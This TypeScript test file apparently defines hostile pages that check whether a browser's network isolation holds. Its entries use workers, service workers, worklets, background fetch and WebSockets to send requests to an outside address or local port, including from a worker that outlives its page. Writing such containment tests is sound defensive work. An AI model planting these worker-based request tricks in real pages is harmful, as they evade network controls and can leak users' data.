import type { PageAttack } from './hostile-site.ts';
import { script } from './requests.ts';

const leak = (out: string): string => `fetch('${out}/x', { mode: 'no-cors' }).catch(() => 0);`;
const socket = (port: number): string => `new WebSocket('ws://127.0.0.1:${port}/x');`;
const blob = (text: string): string =>
  `URL.createObjectURL(new Blob([${JSON.stringify(text)}], { type: 'text/javascript' }))`;

/** Scripts that run beside the page. */
export const workerAttacks: readonly PageAttack[] = [
  {
    name: 'worker',
    how: 'a dedicated worker fetches',
    files: ({ out }) => ({ '/': script(`new Worker('/worker.js')`), '/worker.js': leak(out) }),
  },
  {
    name: 'worker from elsewhere',
    how: 'importScripts, and an import of a module worker',
    files: ({ out }) => ({
      '/': script(`new Worker('/worker.js'); new Worker('/module.js', { type: 'module' })`),
      '/worker.js': `importScripts('${out}/x.js')`,
      '/module.js': `import '${out}/x.js'`,
    }),
  },
  {
    name: 'worker of a blob',
    how: 'a worker without an address fetches',
    files: ({ out }) => ({ '/': script(`new Worker(${blob(leak(out))})`) }),
  },
  {
    name: 'worker of a data: URL',
    how: 'a worker without an origin fetches',
    files: ({ out }) => ({
      '/': script(`new Worker('data:text/javascript,' + ${JSON.stringify(encodeURIComponent(leak(out)))})`),
    }),
  },
  {
    name: 'nested worker',
    how: 'a worker starts a worker, which fetches',
    files: ({ out }) => ({
      '/': script(`new Worker('/outer.js')`),
      '/outer.js': `new Worker('/inner.js')`,
      '/inner.js': leak(out),
    }),
  },
  {
    name: 'worker WebSocket',
    how: 'a worker and a nested worker open sockets',
    files: ({ port }) => ({
      '/': script(`new Worker('/outer.js')`),
      '/outer.js': `${socket(port)} new Worker('/inner.js')`,
      '/inner.js': socket(port),
    }),
  },
  {
    name: 'shared worker',
    how: 'a shared worker fetches',
    files: ({ out }) => ({ '/': script(`new SharedWorker('/shared.js')`), '/shared.js': leak(out) }),
  },
  {
    name: 'shared worker WebSocket',
    how: 'a shared worker of a blob opens a socket',
    files: ({ port }) => ({ '/': script(`new SharedWorker(${blob(socket(port))})`) }),
  },
  {
    name: 'shared worker outlives its page',
    how: 'a shared worker with extendedLifetime goes on asking when the page is closed',
    files: ({ out }) => ({
      '/': script(`new SharedWorker('/shared.js', { extendedLifetime: true })`),
      '/shared.js': `setInterval(() => { ${leak(out)} }, 50)`,
    }),
  },
  {
    name: 'service worker',
    how: 'a service worker fetches when it is installed',
    files: ({ out }) => ({
      '/': script(`navigator.serviceWorker.register('/service.js')`),
      '/service.js': `addEventListener('install', event => event.waitUntil(${leak(out).slice(0, -1)})); ${leak(out)}`,
    }),
  },
  {
    name: 'service worker WebSocket',
    how: 'a service worker opens a socket',
    files: ({ port }) => ({
      '/': script(`navigator.serviceWorker.register('/service.js')`),
      '/service.js': socket(port),
    }),
  },
  {
    name: 'service worker answers',
    how: 'a service worker answers requests of the page with those of another port',
    files: ({ out }) => ({
      '/': script(`navigator.serviceWorker.register('/service.js');
        navigator.serviceWorker.ready.then(() => { document.body.append(document.createElement('iframe')).src = '/a'; });
        navigator.serviceWorker.oncontrollerchange = () => fetch('/b')`),
      '/service.js': `addEventListener('activate', () => clients.claim());
        addEventListener('fetch', event => event.respondWith(fetch('${out}/x', { mode: 'no-cors' })))`,
    }),
  },
  {
    name: 'worklets',
    how: 'audio, paint and layout worklets load modules',
    files: ({ out }) => ({
      '/': script(`new AudioContext().audioWorklet.addModule('${out}/a.js').catch(() => 0);
        CSS.paintWorklet.addModule('${out}/p.js').catch(() => 0);
        CSS.layoutWorklet?.addModule('${out}/l.js').catch(() => 0)`),
    }),
  },
  {
    name: 'worklet imports',
    how: 'a worklet of the site imports from elsewhere',
    files: ({ out }) => ({
      '/': script(`new AudioContext().audioWorklet.addModule('/a.js').catch(() => 0);
        CSS.paintWorklet.addModule('/a.js').catch(() => 0)`),
      '/a.js': `import '${out}/x.js'`,
    }),
  },
  {
    name: 'background fetch and sync',
    how: 'a service worker lets the browser download for it',
    needs: 'a whole Chromium; the headless shell does nothing about it',
    files: ({ out }) => ({
      '/': script(`navigator.serviceWorker.register('/service.js');
        navigator.serviceWorker.ready.then(async held => {
          await held.backgroundFetch?.fetch('x', ['${out}/x']).catch(() => 0);
          await held.sync?.register('x').catch(() => 0);
        })`),
      '/service.js': `addEventListener('sync', event => event.waitUntil(${leak(out).slice(0, -1)}))`,
    }),
  },
];
